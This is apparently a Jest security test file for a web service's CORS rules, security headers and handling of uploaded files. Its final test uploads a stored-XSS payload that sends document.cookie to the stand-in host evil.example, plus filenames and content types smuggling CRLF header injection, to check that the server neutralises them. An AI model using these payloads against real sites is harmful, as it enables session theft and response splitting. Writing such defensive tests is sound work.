import { describe, expect, test } from '@jest/globals';
import { apiPrefix } from '@semantic-memory/shared/contracts/http/endpoint';
import { allowedOrigin, freshTenant, type Target } from '../target.ts';

/** What a browser is told: CORS for the configured origins only, and headers that leave a page nothing to run. */
export function browsersRow(target: () => Target): void {
  describe('CORS', () => {
    const foreign = [
      'https://evil.example',
      'null',
      'http://app.example.com',
      'https://app.example.com:8443',
      'https://app.example.com.evil.example',
      'https://evil-app.example.com',
      'https://APP.example.com.',
    ];
    const paths = ['/health/live', '/openapi.json', `${apiPrefix}/stats`, '/nowhere'];
    const preflight = (origin: string, path: string) =>
      fetch(target().url + path, {
        method: 'OPTIONS',
        headers: {
          origin,
          'access-control-request-method': 'POST',
          'access-control-request-headers': 'authorization,content-type',
        },
      });

    test.each(foreign)('the origin %s may read nothing and send nothing', async (origin) => {
      for (const path of paths) {
        for (const answer of [
          await fetch(target().url + path, { headers: { origin } }),
          await preflight(origin, path),
        ]) {
          expect([path, answer.headers.get('access-control-allow-origin')]).toEqual([path, null]);
        }
      }
    });

    test('a configured origin may, without cookies, and caches know that it depends on the origin', async () => {
      for (const path of paths) {
        const answer = await fetch(target().url + path, { headers: { origin: allowedOrigin } });
        expect(answer.headers.get('access-control-allow-origin')).toBe(allowedOrigin);
        expect(answer.headers.get('access-control-allow-credentials')).toBeNull();
        expect(answer.headers.get('vary')).toContain('Origin');
      }
      const asked = await preflight(allowedOrigin, `${apiPrefix}/search`);
      expect(asked.status).toBe(204);
      expect(asked.headers.get('access-control-allow-headers')).toContain('authorization');
    });
  });

  describe('headers', () => {
    test('every answer, also one that refuses, says that nothing of it is to be run, framed, guessed or kept', async () => {
      const token = { authorization: `Bearer ${target().tokenOf(freshTenant())}` };
      const answers = {
        page: await fetch(target().url),
        docs: await fetch(`${target().url}/docs`),
        document: await fetch(`${target().url}/openapi.json`),
        health: await fetch(`${target().url}/health/live`),
        answer: await fetch(`${target().url}${apiPrefix}/stats`, { headers: token }),
        unauthenticated: await fetch(`${target().url}${apiPrefix}/stats`),
        malformed: await fetch(`${target().url}/%E0%A4%A`),
        absent: await fetch(`${target().url}/nowhere`),
        method: await fetch(`${target().url}${apiPrefix}/stats`, { method: 'PUT', headers: token }),
      };
      for (const [name, { headers }] of Object.entries(answers)) {
        const policy = headers.get('content-security-policy') ?? '';
        expect([name, policy]).toEqual([name, expect.stringContaining("object-src 'none'")]);
        expect([name, policy]).toEqual([name, expect.not.stringMatching(/script-src[^;]*('unsafe|https?:|\*)/)]);
        expect(Object.fromEntries(headers)).toMatchObject({
          'x-content-type-options': 'nosniff',
          'x-frame-options': 'SAMEORIGIN',
          'referrer-policy': 'no-referrer',
          'strict-transport-security': expect.stringContaining('max-age='),
          'cross-origin-resource-policy': 'same-origin',
          'cache-control': 'no-store',
        });
        expect([name, headers.get('x-powered-by'), headers.get('server')]).toEqual([name, null, null]);
      }
    });

    test('what a caller sends comes back as a header only where it cannot forge one', async () => {
      const sent = { 'x-request-id': 'a"b', authorization: `Bearer ${target().tokenOf(freshTenant())}` };
      const answer = await target().call('/stats', '', { headers: sent });
      expect(answer.headers.get('x-request-id')).toMatch(/^[\da-f-]{36}$/);
    });

    test('an original is a download that can run nowhere, whatever it and its sender say that it is', async () => {
      const tenant = freshTenant('download');
      const page = '<script>fetch("https://evil.example/?"+document.cookie)</script><svg onload="alert(1)">';
      for (const [type, name] of [
        ['text/html', 'page.html'],
        ['image/svg+xml', 'x"; filename="run.html'],
        ['text/html\r\nX-Evil: 1', 'a\r\nX-Evil: 1.html'],
      ] as const) {
        const form = new FormData();
        form.append('file', new Blob([page], { type }), name);
        const { documentId } = await target().ingested(tenant, form);
        const { headers, status } = await target().call(`/documents/${documentId}/content`, tenant);
        expect(status).toBe(200);
        expect(headers.get('content-security-policy')).toBe("default-src 'none'; sandbox");
        expect(headers.get('content-disposition')).toMatch(/^attachment; filename\*=UTF-8''[\w.%-]+$/);
        expect(headers.get('x-evil')).toBeNull();
      }
    }, 60_000);
  });
}
